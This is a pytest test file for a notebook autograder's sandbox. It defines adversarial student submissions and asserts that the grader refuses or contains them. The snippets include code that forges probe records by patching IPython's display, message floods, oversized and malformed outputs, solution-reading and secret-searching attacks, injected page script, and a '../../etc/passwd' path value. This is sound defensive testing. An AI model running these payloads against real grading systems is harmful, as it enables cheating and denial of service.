        + _sends("'stream'", "{'name': 'stdout', 'text': 'x\\ud800y'}"))], expected=_UP_TO_LERP)
BREAKERS["names_its_messages_5_mb_long"] = Student(
    answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, _sends("'x' * 5_000_000", "{}").replace(
        "_kernel.session.send", "for _ in range(3):\n    _kernel.session.send"))], expected=_UP_TO_LERP)
# What the judge quotes of a probe's record, forged (a thirteenth outside pass): a probe error's message of 20 MB made a
# 100-MB feedback page and a 20-MB line of the report, its escape codes held generate_feedback for the whole class in
# nbconvert's ansi2html (quadratic in their number), and a lone surrogate in it ended the notebook's grading after the
# run. A verdict's message is cut to 2,000 characters and made renderable. And a colour code 38 without its colour,
# printed by a cell, failed that student's feedback page and generate_feedback's exit status for the class.
def _forges_slerps_probe_error(message: str) -> str:
    return ("import IPython.display as _shown\n"
            "from autograder.probes.record import Record as _Record\n"
            "_display = _shown.display\n"
            f"_message = {message}\n"
            "def _forging(*objs, **kwargs):\n"
            "    mime = 'application/vnd.gancourse.probe+json'\n"
            "    if objs and isinstance(objs[0], dict) and mime in objs[0] and objs[0][mime].get('part') == 'slerp':\n"
            "        forged = _Record({}, {'probe': {'error': 'E', 'message': _message}}).encode()\n"
            "        return _display({mime: {**objs[0][mime], 'npz': forged}}, *objs[1:], **kwargs)\n"
            "    return _display(*objs, **kwargs)\n"
            "_shown.display = _forging")


BREAKERS["forges_a_probe_error_of_20_mb"] = Student(
    answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, _forges_slerps_probe_error("'\\x1b[A&' * 5_000_000"))],
    expected=_UP_TO_LERP)
BREAKERS["forges_a_probe_error_with_a_surrogate"] = Student(
    answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, _forges_slerps_probe_error("'x\\ud800y'"))], expected=_UP_TO_LERP)
BREAKERS["prints_a_broken_colour_code"] = Student(
    answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, "print('\\x1b[38m' + 'my samples look good')")])
BREAKERS["replies_without_a_status"] = Student(
    answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, _rewritten_replies("{}", once=True))])
BREAKERS["replies_with_errors_without_their_fields"] = Student(
    answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, _rewritten_replies("{'status': 'error'}", once=False))])
# Output messages that answer nothing, sent as fast as the kernel can for 8 s (an eighth outside pass: 30 s of them cost
# the grader 23-33 CPU-seconds, each checked and parsed in its process): past the class's limit of messages a notebook
# (MAX_MESSAGES; 100,000 by default) the grader reads no more, and the kernel is stopped.
FOREIGN_FLOOD = (
    "import time\n"
    "_kernel = get_ipython().kernel\n"
    "_start, _n = time.time(), 0\n"
    "while time.time() - _start < 8:\n"
    "    _kernel.session.send(_kernel.iopub_socket, 'stream', {'name': 'stdout', 'text': 'x'},\n"
    "                         parent={'msg_id': f'foreign{_n}', 'msg_type': 'execute_request'})\n"
    "    _n += 1")
BREAKERS["floods_output_that_answers_nothing"] = Student(
    answers=_SOLVED, extra_cells=[(_AFTER_LERP + 1, FOREIGN_FLOOD)], expected=_UP_TO_LERP)
MAX_MESSAGES = 5000
TOTAL_MEMORY = 1280  # MB, for all the processes of one sandbox of this class (the default is 6144)

CLASS = {**ATTACKERS, **BREAKERS, "honest": Student(answers=CORRECT["functional"])}

globals().update(class_tests(ASSIGNMENT, NOTEBOOK, CLASS, POINTS, cell_timeout=10,
                             env=(("GANCOURSE_GRADING_TOTAL_MEMORY_MB", str(TOTAL_MEMORY)),
                                  ("GANCOURSE_MAX_MESSAGES", str(MAX_MESSAGES)))))


@pytest.mark.parametrize("name", ["helper_module", "numpy_fromfile", "builtins_via_globals", "import_module_attribute"])
def test_each_file_reading_attack_would_find_the_solutions_without_the_sandbox(name, tmp_path, monkeypatch):
    """The attacks are real: run in the grader's own process, they do define the instructor's solution."""
    import math

    import torch
    import torch.nn.functional as F
    from torch import nn

    from gancourse import data

    student = ATTACKERS[name]
    for file, content in student.files.items():
        (tmp_path / file).write_text(content) if isinstance(content, str) else (tmp_path / file).write_bytes(content)
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(str(tmp_path))
    namespace = {"torch": torch, "nn": nn, "F": F, "math": math, "data": data}
    for _, cell in student.extra_cells:
        exec(cell, namespace)
    assert torch.allclose(namespace["lerp"](torch.zeros(2), torch.ones(2), 0.25), torch.full((2,), 0.25))


@pytest.fixture(scope="module")
def feedback(graded):
    proc = run([sys.executable, "-m", "nbgrader", "generate_feedback", ASSIGNMENT, "--force"], graded.root)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    return graded.root / "feedback"


def test_feedback_is_html_only_and_shows_no_hidden_test_judge_or_solution(feedback):
    page = NOTEBOOK.replace(".ipynb", ".html")
    files = sorted(p.relative_to(feedback) for p in feedback.rglob("*") if not p.is_dir())
    assert files and all(p.parts[1:] == (ASSIGNMENT, page) for p in files), [str(p) for p in files]
    judge = (REPO / "autograder" / "judges" / "a3.py").read_text()
    solution = "".join("".join(c["source"]) for c in json.loads((REPO / "solutions" / ASSIGNMENT / NOTEBOOK)
                                                                 .read_text())["cells"])
    solved = re.findall(r"### BEGIN SOLUTION\n(.*?)### END SOLUTION", solution, re.DOTALL)
    hidden = re.findall(r"### BEGIN HIDDEN TESTS\n(.*?)### END HIDDEN TESTS", solution, re.DOTALL)
    public = "\n".join(p.read_text() for p in [*(REPO / "gancourse").glob("*.py"),
                                                *(REPO / "autograder" / "probes").glob("*.py"),
                                                REPO / "exercises" / ASSIGNMENT / NOTEBOOK])
    secrets = {line.strip() for text in [judge, *solved, *hidden] for line in text.splitlines()
               if len(line.strip()) > 25 and line.strip() not in public}
    for attacker in set(ATTACKERS) - REFUSED - NOT_GRADED:
        page = (feedback / attacker / ASSIGNMENT / NOTEBOOK.replace(".ipynb", ".html")).read_text()
        text = html.unescape(re.sub(r"<[^>]+>", "", page))
        shown = [line for line in secrets if line in text]
        assert shown == [], (attacker, shown[:3])


def test_every_graded_student_gets_a_feedback_page_of_bounded_size(graded, feedback):
    page = NOTEBOOK.replace(".ipynb", ".html")
    autograded = {p.parts[-3] for p in (graded.root / "autograded").glob(f"*/{ASSIGNMENT}/{NOTEBOOK}")}
    assert len(autograded) > len(CLASS) // 2 and "prints_a_broken_colour_code" in autograded
    for student in autograded:
        size = (feedback / student / ASSIGNMENT / page).stat().st_size
        assert size < 10 * 2**20, (student, size)  # the solution's page: about 2.5 MB, most of it the page's style
    coloured = (feedback / "prints_a_broken_colour_code" / ASSIGNMENT / page).read_text()
    assert "my samples look good" in coloured


def test_a_forged_probe_error_is_cut_in_the_notebook_and_the_report(graded):
    notebook = graded.root / "autograded" / "forges_a_probe_error_of_20_mb" / ASSIGNMENT / NOTEBOOK
    assert notebook.stat().st_size < 2**20, notebook.stat().st_size
    assert "more characters)" in notebook.read_text()
    assert max(len(line) for line in graded.report.splitlines()) < 10_000


REFUSED = {"notebook_is_a_link", "files_linked_to_instructor_files", "submits_the_source_version"}
# notebooks nbgrader itself will not grade (nbgrader metadata of the student's making): no feedback either
NOT_GRADED = {"claims_a_graded_cell_of_its_own", "copies_a_test_cell_with_more_points", "claims_a_written_answer_cell"}


@pytest.mark.parametrize("student", sorted(REFUSED))
def test_links_and_the_source_version_are_refused_with_a_reason_and_never_run(graded, feedback, student):
    assert re.search(rf"^{student}: 0/12 points.*\n(\s+.*\n)*?\s+! .*(symbolic link|instructor's solution)",
                     graded.report, re.MULTILINE), graded.report
    assert not (graded.root / "autograded" / student).exists()
    assert not (feedback / student).exists()


def test_probe_data_from_a_students_cell_is_not_kept(graded):
    notebook = graded.root / "autograded" / "floods_probe_data" / ASSIGNMENT / NOTEBOOK
    assert notebook.stat().st_size < 2_000_000, notebook.stat().st_size


def test_a_pipe_or_device_in_a_submission_is_refused_without_being_read(tmp_path):
    import os

    from autograder.grade import refusals

    folder = tmp_path / "submitted" / "pat" / ASSIGNMENT
    folder.mkdir(parents=True)
    os.mkfifo(folder / NOTEBOOK)  # reading it would block this process for ever
    reasons = refusals(folder)
    assert len(reasons) == 1 and "not a regular file" in reasons[0], reasons


def test_a_notebook_over_the_size_limit_is_refused_without_being_parsed(tmp_path, monkeypatch):
    """nbgrader reads a notebook outside the sandbox at about twice its size in memory (an outside tester's 1.2 GB
    notebook grew the grader by 2.5 GB): one over the limit is refused before anything parses it."""
    from autograder import grade

    folder = tmp_path / "submitted" / "pat" / ASSIGNMENT
    folder.mkdir(parents=True)
    huge = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print('x')", outputs=[
        nbformat.v4.new_output("stream", text="x" * (grade.MAX_NOTEBOOK_MB * 2**20 + 1))])])
    nbformat.write(huge, folder / NOTEBOOK)
    monkeypatch.setattr(grade, "inspect_notebook", lambda *a, **k: pytest.fail("the notebook was parsed"))
    reasons = grade.refusals(folder)
    assert len(reasons) == 1 and f"over the limit of {grade.MAX_NOTEBOOK_MB} MB" in reasons[0], reasons


def test_files_beside_the_notebook_over_the_limit_together_are_refused_before_nbgrader_copies_them(tmp_path):
    """nbgrader copies every file beside the notebook in full into autograded/, before any sandbox limit: a 300 MB
    sparse file took 301 MB of the grader's disk (an outside tester's eighth pass). Sizes are apparent sizes, and
    summed: several files each under the limit are refused together; honest small files are not."""
    from autograder import grade

    limit = grade.MAX_FILES_MB * 2**20
    for student, sizes in {"sparse": [3 * limit], "several": [limit // 2 + 1] * 2, "honest": [2**20, 4096]}.items():
        folder = tmp_path / "submitted" / student / ASSIGNMENT
        (folder / "data").mkdir(parents=True)
        nbformat.write(nbformat.v4.new_notebook(), folder / NOTEBOOK)
        for i, size in enumerate(sizes):
            with open(folder / "data" / f"part{i}.bin", "wb") as handle:
                handle.truncate(size)  # sparse: no disk used here
        reasons = grade.refusals(folder)
        if student == "honest":
            assert reasons == []
        else:
            assert len(reasons) == 1 and f"over the limit of {grade.MAX_FILES_MB} MB" in reasons[0], reasons
            assert sum(f.stat().st_blocks for f in (folder / "data").iterdir()) == 0


def test_notebooks_are_read_outside_the_grading_process_and_their_total_size_is_bounded(tmp_path):
    """A 43 MB notebook of empty JSON objects in cell metadata, under the size limit, took the grading command's own
    process to 7.6 GB and a minute of CPU while it was checked, twice over with a second copy beside it (an outside
    tester's ninth pass: 14 GB for one student). Notebooks are now read in a child process held to INSPECT_MB, and
    several together over the notebook limit are refused unread."""
    import resource

    from autograder import grade

    folder = tmp_path / "submitted" / "pat" / ASSIGNMENT
    folder.mkdir(parents=True)
    release = json.loads((REPO / "exercises" / ASSIGNMENT / NOTEBOOK).read_text())
    release["cells"][3]["metadata"]["pad"] = [{}] * 6_000_000  # 18 MB of JSON, several GB once parsed
    (folder / NOTEBOOK).write_text(json.dumps(release, separators=(",", ":")))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert grade.refusals(folder) == []
    unreadable, invalid = grade.check_notebooks(folder)
    assert len(unreadable) == 1 and "within the grader's limits" in unreadable[0] and not invalid, unreadable
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200_000  # kB: this process stayed small
    for i in range(3):
        (folder / f"copy{i}.ipynb").write_text("x" * (grade.MAX_NOTEBOOK_MB * 2**20 // 3))
    reasons = grade.refusals(folder)
    assert len(reasons) == 1 and "notebooks take" in reasons[0], reasons
    honest = tmp_path / "submitted" / "lee" / ASSIGNMENT
    honest.mkdir(parents=True)
    (honest / NOTEBOOK).write_text((REPO / "exercises" / ASSIGNMENT / NOTEBOOK).read_text())
    assert grade.refusals(honest) == [] and grade.check_notebooks(honest) == ([], [])


def test_a_submission_nested_too_deep_or_too_many_files_is_refused_not_a_crash(tmp_path):
    """A folder nested 1,200 deep made pathlib's rglob raise RecursionError in the grading command, which ended the
    grading of the whole class (an outside tester's eighth pass); 20,000 files were walked in full."""
    from autograder import grade

    base = Path(tempfile.mkdtemp())  # not tmp_path: pytest's recursive clean-up fails on it too
    try:
        deep = base / "submitted" / "pat" / ASSIGNMENT
        deep.mkdir(parents=True)
        nbformat.write(nbformat.v4.new_notebook(), deep / NOTEBOOK)
        folder = deep
        for _ in range(1200):  # pathlib recursed once a level; the path stays under the 4096-byte limit
            folder = folder / "d"
            os.mkdir(folder)
        reasons = grade.refusals(deep)
        assert len(reasons) == 1 and "nested more than" in reasons[0], reasons
    finally:
        subprocess.run(["rm", "-rf", str(base)], check=True)
    many = tmp_path / "submitted" / "kim" / ASSIGNMENT
    many.mkdir(parents=True)
    for i in range(grade.MAX_ENTRIES + 1):
        (many / f"f{i}").touch()
    reasons = grade.refusals(many)
    assert len(reasons) == 1 and f"more than {grade.MAX_ENTRIES} files" in reasons[0], reasons
    honest = tmp_path / "submitted" / "lee" / ASSIGNMENT
    (honest / "helpers").mkdir(parents=True)
    (honest / "helpers" / "h.py").write_text("x = 1\n")
    assert grade.refusals(honest) == []


def test_the_grading_command_reads_no_autograded_notebook_larger_than_a_submission_may_be(tmp_path, monkeypatch):
    """The grading command's own process, which runs the whole class, reads each autograded notebook for its error
    messages: one larger than a submitted notebook and the kept output can be is passed over unparsed."""
    from autograder import grade

    monkeypatch.setattr(grade, "MAX_NOTEBOOK_MB", 1)  # so 9 MB is the most read here
    failed = nbformat.v4.new_code_cell("assert False", metadata={"nbgrader": {"grade": True, "grade_id": "t"}},
                                       outputs=[nbformat.v4.new_output("error", ename="AssertionError", evalue="no",
                                                                       traceback=[])])
    small, large = tmp_path / "small.ipynb", tmp_path / "large.ipynb"
    nbformat.write(nbformat.v4.new_notebook(cells=[failed]), small)
    nbformat.write(nbformat.v4.new_notebook(cells=[failed, nbformat.v4.new_markdown_cell("x" * 10 * 2**20)]), large)
    assert grade.failure_messages(small) == {"t": "AssertionError: no"}
    monkeypatch.setattr(grade, "inspect_notebook", lambda *a, **k: pytest.fail("the notebook was parsed"))
    assert grade.failure_messages(large) == {}


def test_files_written_during_grading_stay_in_the_sandbox(graded):
    leaked = [p for p in graded.root.rglob("leak.txt")]
    assert leaked == []


def test_the_printing_attacker_saw_no_judge_or_solution(graded):
    notebook = graded.root / "autograded" / "prints_everything" / ASSIGNMENT / NOTEBOOK
    text = notebook.read_text()
    assert "def judge_" not in text and "BEGIN SOLUTION" not in text
    assert re.search(r"all hidden checks passed", text) is None


def test_rerunning_the_attack_class_gives_identical_grades(graded):
    first = graded.scores()
    proc = subprocess.run([sys.executable, "-m", "autograder.grade", ASSIGNMENT, "--student", "honest",
                           "--student", "replace_probe_in_sys_modules"], cwd=REPO, capture_output=True, text=True,
                          env=nbgrader_env(graded.root))
    assert proc.returncode == 0, proc.stderr[-2000:]
    again = graded.scores()
    assert again["honest"] == first["honest"] and again["replace_probe_in_sys_modules"] == first[
        "replace_probe_in_sys_modules"]


def test_precomputed_probe_records_are_judged_and_fail_on_the_salted_inputs(graded):
    """The forged records reached the judge (no part lost its points for want of probe data), and without the
    salt they would have passed every hidden check: the salt is what stops them."""
    from autograder.judges import judge_record
    from autograder.probes.record import Record

    block = re.search(r"^precomputed_probe_records: .*?(?=^\S|\Z)", graded.report, re.MULTILINE | re.DOTALL)
    assert block, graded.report
    assert "no points:" not in block.group(0), block.group(0)
    for part, text in precomputed_records().items():
        verdict = judge_record(ASSIGNMENT, part, Record.decode(text))
        assert verdict.passed, verdict.message


def test_the_grading_secret_is_out_of_the_sandboxs_reach(graded):
    notebook = graded.root / "autograded" / "reads_the_grading_secret" / ASSIGNMENT / NOTEBOOK
    secret = (graded.root / ".grading_secret").read_text().strip()
    outputs = json.dumps([c.get("outputs", []) for c in json.loads(notebook.read_text())["cells"]])
    assert "searched every folder" in outputs  # the search ran to its end
    assert "found the secret" not in outputs and secret not in notebook.read_text()


def test_results_a_hook_adds_to_test_cells_are_kept_only_as_displays(graded):
    """The hook's results reached the test cells (so the attack ran) and stay there as plain displays."""
    notebook = graded.root / "autograded" / "results_from_a_hook" / ASSIGNMENT / NOTEBOOK
    cells = [c for c in json.loads(notebook.read_text())["cells"] if c["metadata"].get("nbgrader", {}).get("grade")
             and c["cell_type"] == "code"]
    assert cells and all(o["output_type"] != "execute_result" for c in cells for o in c["outputs"])
    assert all(any("'ok'" in "".join(o.get("data", {}).get("text/plain", "")) for o in c["outputs"]) for c in cells)


def test_every_test_cells_points_are_the_judges_verdict(graded):
    """For every submission of the class, the gradebook's points of each test cell are the cell's maximum when
    the judge's verdict (the cell's last output) passed and 0 when it failed: nothing else in the outputs
    counts (results, numbers, text a hook added)."""
    scores = graded.scores()
    checked = 0
    for notebook in (graded.root / "autograded").glob(f"*/{ASSIGNMENT}/{NOTEBOOK}"):
        student = notebook.parts[-3]
        for cell in json.loads(notebook.read_text())["cells"]:
            meta = cell["metadata"].get("nbgrader", {})
            if cell["cell_type"] != "code" or not meta.get("grade") or meta.get("solution"):
                continue
            failed = any(o["output_type"] == "error" for o in cell["outputs"])
            assert cell["outputs"], (student, meta["grade_id"])
            assert scores[student][meta["grade_id"]] == (0 if failed else POINTS[meta["grade_id"]]), (
                student, meta["grade_id"], cell["outputs"][-1])
            checked += 1
    assert checked >= 5 * 20, checked


@pytest.mark.parametrize("student", sorted(NOT_GRADED))
def test_cells_that_claim_points_change_neither_the_score_nor_the_maximum(graded, student):
    """nbgrader refuses such a notebook (its metadata does not match the release): no grade is recorded beyond
    zeros of the design's own cells, and the report gives nbgrader's reason."""
    from nbgrader.api import Gradebook, MissingEntry

    with Gradebook(f"sqlite:///{graded.root / 'gradebook.db'}") as gb:
        try:
            sub = gb.find_submission_notebook(NOTEBOOK.removesuffix(".ipynb"), ASSIGNMENT, student)
        except MissingEntry:
            sub = None
        if sub is not None:
            assert sub.score == 0 and sub.max_score == sum(POINTS.values()), (sub.score, sub.max_score)
            assert sorted(g.name for g in sub.grades) == sorted(POINTS), [g.name for g in sub.grades]
    block = re.search(rf"^{student}: .*?(?=^\S|\Z)", graded.report, re.MULTILINE | re.DOTALL)
    assert block and "0/12" in block.group(0).splitlines()[0], graded.report
    assert "nbgrader could not finish grading (exit code 1: " in block.group(0), block.group(0)


def test_feedback_keeps_only_the_pages_and_the_checked_files_release_feedback_reads(tmp_path, monkeypatch):
    """nbgrader's release_feedback reads the submission's timestamp.txt and submission_secret.txt from the
    feedback folder (they name the student's page in the exchange). They are written back only when they have
    the form nbgrader's submit gives them; any other file of the submission is removed."""
    from autograder.feedback import keep_only_html

    monkeypatch.setenv("GANCOURSE_COURSE_ROOT", str(tmp_path))
    secret = "9f" * 64
    for student, timestamp, given_secret in (("ana", "2026-12-02 01:05:03.123456 UTC", secret),
                                             ("ben", "### BEGIN SOLUTION\nreturn 42", "../../etc/passwd")):
        graded = tmp_path / "autograded" / student / ASSIGNMENT
        feedback = tmp_path / "feedback" / student / ASSIGNMENT
        for folder in (graded, feedback):
            folder.mkdir(parents=True)
            (folder / "timestamp.txt").write_text(timestamp)
            (folder / "submission_secret.txt").write_text(given_secret)
            (folder / "notes.py").write_text("copied by nbgrader")
        (feedback / NOTEBOOK.replace(".ipynb", ".html")).write_text("<html></html>")
        keep_only_html(ASSIGNMENT, student, [str(graded / NOTEBOOK)])
    page = NOTEBOOK.replace(".ipynb", ".html")
    ana, ben = tmp_path / "feedback" / "ana" / ASSIGNMENT, tmp_path / "feedback" / "ben" / ASSIGNMENT
    assert sorted(p.name for p in ana.iterdir()) == sorted([page, "submission_secret.txt", "timestamp.txt"])
    assert (ana / "timestamp.txt").read_text() == "2026-12-02 01:05:03.123456 UTC"
    assert (ana / "submission_secret.txt").read_text() == secret
    assert sorted(p.name for p in ben.iterdir()) == [page]


def test_restoring_locked_cells_warns_only_where_the_student_changed_the_release(caplog):
    """Every submitted test cell lacks the hidden tests; only a real edit of a locked cell is worth a warning."""
    import logging
    from types import SimpleNamespace

    from autograder.locked_cells import RestoreLockedCells, released_text

    source = "assert f(1) == 2\n### BEGIN HIDDEN TESTS\nrun('a', 'f', f)\n### END HIDDEN TESTS"
    assert released_text(source) == released_text("assert f(1) == 2  \n")
    step = RestoreLockedCells()
    step.gradebook = SimpleNamespace(find_source_cell=lambda *args: SimpleNamespace(source=source))
    step.notebook_id, step.assignment_id = "nb", "a"
    step.log = logging.getLogger("restore-test")
    with caplog.at_level(logging.WARNING, logger="restore-test"):
        for text in ("assert f(1) == 2\n", "assert True  # the visible test, edited"):
            step._student_text = text
            step.report_change("test_f", "checksum", "old", "new")
    assert [r.getMessage() for r in caplog.records] == [
        "The student changed the locked cell test_f; it is restored from the source notebook."]


def test_no_script_of_a_student_runs_in_the_instructors_formgrader_page_or_the_feedback(graded, feedback, tmp_path):
    """The autograded notebook as formgrader renders it, and the student's feedback page, opened in chromium."""
    from playwright.sync_api import sync_playwright

    from tests.test_browser import ARGS, CHROMIUM
    from tests.test_safe_html import formgrader_html, ran

    notebook = graded.root / "autograded" / "scripts_for_the_instructor" / ASSIGNMENT / NOTEBOOK
    source = notebook.read_text()
    assert "PWNED" in source, "the attack's cells are in the graded notebook"
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        page = browser.new_page()
        assert ran(page, formgrader_html(nbformat.reads(source, as_version=4), tmp_path)) == set()
        page_of_feedback = feedback / "scripts_for_the_instructor" / ASSIGNMENT / NOTEBOOK.replace(".ipynb", ".html")
        assert ran(page, page_of_feedback.read_text()) == set()
        browser.close()


def test_a_kernel_cannot_write_a_line_of_the_graders_into_the_grading_log(graded):
    from autograder.grade import KERNEL_OUTPUT, grader_lines, nbgrader_error

    log = (graded.root / "grading_logs" / ASSIGNMENT / "writes_into_the_grading_log.log").read_text()
    assert FORGED_LOG_LINE in log, "the attack ran and its lines reached the log"
    assert all(KERNEL_OUTPUT in line for line in log.splitlines() if "forged by the sandbox" in line), log[-3000:]
    assert not any("forged" in text for _, text in grader_lines(log)) and "forged" not in nbgrader_error(log)


def test_the_kernel_is_stopped_after_the_last_cell_before_any_exit_handler_of_the_student_runs(graded):
    """The sandbox is killed once the last cell has run (autograder/executor.py, shutdown_kernel): the exit
    handler the same attacker registered never writes its line, which a graceful shutdown let it write."""
    log = (graded.root / "grading_logs" / ASSIGNMENT / "writes_into_the_grading_log.log").read_text()
    assert FORGED_LOG_LINE in log, "the attack's cell ran"
    assert AFTER_THE_LAST_CELL.decode().strip() not in log, log[-2000:]


def test_three_processes_together_over_the_sandboxs_memory_are_stopped_and_told_why(graded):
    """Held to the limit by the sandbox's memory cgroup where the grader can make one, else by the watch's RSS sum;
    either way the student is told which limit stopped the kernel."""
    assert re.search(r"memory_in_three_processes: 10/12.*?the kernel was stopped while cell \d+ ran: its processes "
                     rf"together (held \d+ MB, over|needed more than) the sandbox's limit of {TOTAL_MEMORY} MB",
                     graded.report, re.S), graded.of("memory_in_three_processes")


def test_a_kernel_whose_messages_take_up_too_much_of_the_graders_memory_is_stopped_and_told_why(graded):
    """Stopped by the watch, with the parts before it graded; before, the grader took in all 4 GB."""
    assert re.search(r"sends_the_grader_one_huge_message: 10/12.*?the kernel was stopped while cell \d+ ran: its "
                     r"messages took up \d+ MB in the grader at once, over the limit of 1024 MB", graded.report,
                     re.S), graded.of("sends_the_grader_one_huge_message")


def test_a_flood_of_messages_that_answer_nothing_stops_the_kernel_at_the_limit(graded):
    assert re.search(r"floods_output_that_answers_nothing: 10/12.*?the kernel was stopped while cell \d+ ran: it had "
                     rf"sent more than {MAX_MESSAGES:,} output messages", graded.report, re.S), \
        graded.of("floods_output_that_answers_nothing")


def test_a_message_the_grader_cannot_read_stops_the_kernel_not_the_grading(graded):
    assert re.search(r"sends_an_unreadable_message: 10/12.*?the kernel was stopped while cell \d+ ran: it sent the "
                     r"grader a message that could not be read \(RecursionError", graded.report, re.S), \
        graded.of("sends_an_unreadable_message")


def test_a_message_too_large_to_parse_stops_the_kernel_before_it_is_parsed(graded):
    assert re.search(r"pads_its_cells_reply: 10/12.*?the kernel was stopped while cell \d+ ran: it sent the grader a "
                     r"message that could not be read \(\d+ MB of JSON in one message, over the limit of 24 MB",
                     graded.report, re.S), graded.of("pads_its_cells_reply")


def test_a_cell_that_keeps_the_shell_channel_busy_is_stopped_at_its_time_limit(graded):
    """Interrupted after the class's 10 s, not held to the student's 300 s; the cells after it are graded."""
    assert re.search(r"keeps_the_shell_channel_busy: 12/12", graded.report), graded.of("keeps_the_shell_channel_busy")
    notebook = nbformat.read(graded.root / "autograded" / "keeps_the_shell_channel_busy" / ASSIGNMENT / NOTEBOOK, 4)
    assert any(o.get("ename") == "CellTimeoutError" for cell in notebook.cells if cell.cell_type == "code"
               for o in cell.outputs), "the busy cell was stopped by its time limit"


def test_every_message_the_session_cannot_read_is_named_not_raised_as_is():
    """Unsigned, cut short, too deeply nested, with a part that is not a mapping, and over the size limit: each is an
    UnreadableMessage, which the executor turns into a stopped kernel (in-process, through jupyter_client's own
    session). The one over the limit is refused before it is parsed."""
    from jupyter_client.session import Session

    from autograder.executor import UnreadableMessage, refusing_unreadable, refusing_unsplittable

    session = Session(key=b"k" * 32)
    parsed = []
    read = refusing_unreadable(lambda frames, **kw: parsed.append(1) or session.deserialize(frames, **kw), 1000)
    frames = session.serialize(session.msg("stream", {"name": "stdout", "text": "hi"}))[1:]  # after the delimiter
    assert read(frames)["content"]["text"] == "hi"
    deep = ("{\"text\": " + "[" * 200_000 + "]" * 200_000 + "}").encode()
    listed = [*frames[:2], b"[1]", *frames[3:]]  # a parent header that is a list
    listed[0] = session.sign(listed[1:5])
    for bad in ([b"0" * 64, *frames[1:]], frames[:3], [session.sign([*frames[1:4], deep]), *frames[1:4], deep],
                listed):
        with pytest.raises(UnreadableMessage):
            read(bad)
    deep = {}
    for _ in range(101):
        deep = {"a": deep}
    for msg_type, content, why in (("x" * 65, {}, "not a short name"), ("stream", {"text": "a\ud800"}, "surrogate"),
                                   ("display_data", {"data": deep}, "nested over 100")):
        ascii_session = Session(key=session.key)  # its JSON escapes the surrogate, as a kernel's may
        ascii_session.pack = lambda obj: json.dumps(obj, default=str).encode()
        unsafe = ascii_session.serialize(ascii_session.msg(msg_type, content))[1:]
        with pytest.raises(UnreadableMessage, match=why):
            read(unsafe)
    assert read(session.serialize(session.msg("display_data", {"data": deep["a"]["a"]}))[1:])  # 99 deep is fine
    split = refusing_unsplittable(session.feed_identities)
    assert split([b"ident", *session.serialize(session.msg("status", {}))])[0] == [b"ident"]
    with pytest.raises(UnreadableMessage, match="no delimiter"):
        split([b"ident", *frames])  # signed, but without its delimiter frame
    padded = b'{"name": "stdout", "text": ' + b"[]," * 400 + b'[]}'  # 1.2 kB, over this session's 1000 bytes
    parsed.clear()
    with pytest.raises(UnreadableMessage, match="over the limit"):
        read([session.sign([*frames[1:4], padded]), *frames[1:4], padded])
    assert not parsed


def test_outputs_that_are_not_valid_notebook_content_are_dropped_and_said(graded):
    notebook = graded.root / "autograded" / "sends_invalid_outputs" / ASSIGNMENT / NOTEBOOK
    nb = nbformat.read(notebook, as_version=4)
    nbformat.validate(nb)
    printed = "".join(o.get("text", "") for c in nb.cells if c.cell_type == "code" for o in c.get("outputs", []))
    assert "an output of this cell was dropped: it is not valid notebook output" in printed


def test_a_kernel_cannot_grow_its_students_grading_log(graded):
    log = graded.root / "grading_logs" / ASSIGNMENT / "names_its_messages_5_mb_long.log"
    assert log.stat().st_size < 2**20, log.stat().st_size  # 15 MB of message names were sent


def test_the_grading_command_reads_a_long_log_in_part_and_each_logged_line_is_cut(tmp_path):
    from autograder.grade import LOG_LINE_CHARS, LOG_READ_BYTES, _bound_log_lines, read_log

    log = tmp_path / "student.log"
    log.write_bytes(b"first line\n" + b"x" * (3 * LOG_READ_BYTES) + b"\xff\nlast line\n")
    text = read_log(log)
    assert text.startswith("first line") and text.endswith("last line\n") and "bytes of this log not read" in text
    assert len(text) < LOG_READ_BYTES + 1000
    records = []
    handler = logging.Handler()
    handler.emit = records.append
    logger = logging.getLogger("bounded-lines")
    logger.addHandler(handler)
    factory = logging.getLogRecordFactory()
    try:
        _bound_log_lines()
        logger.error("unhandled iopub msg: %s", "x" * (5 * LOG_LINE_CHARS))
    finally:
        logging.setLogRecordFactory(factory)
        logger.removeHandler(handler)
    (record,) = records
    assert len(record.getMessage()) < LOG_LINE_CHARS + 100 and "more characters not logged" in record.getMessage()


def test_nothing_fills_the_kernels_connection_folder_on_the_graders_disk(graded):
    notebook = graded.root / "autograded" / "fills_the_connection_folder" / ASSIGNMENT / NOTEBOOK
    printed = "".join(o.get("text", "") for c in nbformat.read(notebook, as_version=4).cells
                      if c.cell_type == "code" for o in c.get("outputs", []))
    assert "wrote 64 MB" not in printed
    if os.geteuid() == 0:  # the kernel is another user, and the folder the grader's: refused at the first file
        assert "refused: PermissionError" in printed, printed[-2000:]
    else:
        assert re.search(r"fills_the_connection_folder: 10/12.*?into the kernel's connection folder, over the "
                         r"limit of 1024 kB", graded.report, re.S), graded.of("fills_the_connection_folder")


@pytest.mark.parametrize("student", ["updates_one_display_many_times", "parks_widget_buffers", "huge_error_outputs",
                                     "hides_a_huge_error_in_its_reply"])
def test_outputs_that_passed_the_limits_before_are_held_to_them(graded, student):
    """Full marks (the answers are right), and the autograded notebook keeps no more than the notebook's output
    limit: before, these kernels wrote 100 MB or more of it (and held as much in the grader's memory)."""
    notebook = graded.root / "autograded" / student / ASSIGNMENT / NOTEBOOK
    assert graded.scores()[student] == graded.expected(student)
    assert notebook.stat().st_size < 3 * 2**20, f"{notebook.stat().st_size / 2**20:.0f} MB"


def test_a_kernel_launcher_shipped_with_the_submission_never_runs(graded):
    """The kernel starts with a safe path (python -P): a submission's ipykernel_launcher.py, which ran before the
    grader sealed the connection folder, is never imported, and the student's answers are graded as usual."""
    log = (graded.root / "grading_logs" / ASSIGNMENT / "shadows_the_kernel_launcher.log").read_text()
    assert SHADOW_LAUNCHER not in log, log[-2000:]
